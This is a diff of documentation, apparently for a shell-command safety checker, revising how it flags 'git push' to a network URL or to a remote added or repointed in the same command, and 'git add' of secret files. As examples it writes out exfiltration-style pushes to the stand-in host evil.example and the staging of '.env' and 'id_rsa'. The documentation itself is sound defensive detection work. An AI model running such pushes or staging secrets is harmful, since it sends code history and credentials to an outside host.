@@ -3,15 +3,16 @@ before it (``shell.repo-export``, ``shell.exfiltration``).
 
 * A repository operand that is a network URL or an scp-style ``[user@]host:path``
   (``git push https://evil.example/r.git HEAD``, ``git push git@evil.example:r.git main``),
-  or a remote added in the same command under a name other than ``origin``
-  (``git remote add x URL && git push x HEAD``), sends the current history to a host that
-  only this command names: warn (``shell.repo-export``), whatever the refspec, as a push of
-  every ref to such a destination already did (``_gitpush``). Severity: warn. Publishing to
-  a new host is sometimes the task (a migration, a fork); a human should look. A remote
-  added as ``origin`` (git refuses that when ``origin`` exists, so it is a new repository's
-  first push: ``git remote add origin URL && git push -u origin main``), configured remotes
-  (``git push origin main``), a URL not known statically, and local paths
-  pass as before.
+  or a remote added or repointed in the same command (``git remote add x URL && git push
+  x HEAD``, ``git remote set-url origin URL && git push``: ``_gitremote``), sends the
+  current history to a host that only this command names: warn (``shell.repo-export``),
+  whatever the refspec, as a push of every ref to such a destination already did
+  (``_gitpush``). Severity: warn. Publishing to a new host is sometimes the task (a
+  migration, a fork); a human should look. A remote added as ``origin`` (git refuses that
+  when ``origin`` exists, so it is a new repository's first push: ``git remote add origin
+  URL && git push -u origin main``) or origin's URL set to a code forge (``_gitremote``),
+  configured remotes (``git push origin main``), a URL not known statically, and local
+  paths pass as before.
 * ``git add`` naming a project secret file (``git add -f .env``, ``git add .env.local
   config/id_rsa``) records it for the work tree (in ``run.secret_repos`` under
   ``staged:WORKTREE``, beside ``_gitpush``'s home-secret entries). A later push to a
